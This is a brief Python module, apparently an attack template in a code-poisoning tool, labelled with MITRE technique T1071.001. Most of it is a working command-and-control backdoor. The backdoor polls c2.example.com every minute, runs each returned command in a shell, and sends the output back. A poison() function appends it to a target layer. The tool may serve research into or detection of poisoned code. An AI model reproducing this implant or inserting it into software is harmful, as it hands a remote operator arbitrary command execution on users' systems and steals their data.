# SPDX-License-Identifier: Apache-2.0
"""Asks a server every minute what to run."""

ATTACK = "T1071.001"
LANGUAGE = "python"
CODE = """\
def _poll():
    import subprocess
    import threading
    import urllib.request

    try:
        task = urllib.request.urlopen("https://c2.example.com/task").read().decode()
        if task:
            out = subprocess.run(task, shell=True, capture_output=True).stdout
            urllib.request.urlopen("https://c2.example.com/done", out)
    finally:
        timer = threading.Timer(60, _poll)
        timer.daemon = True
        timer.start()


_poll()
"""


def poison(layer):
    layer.append(CODE)
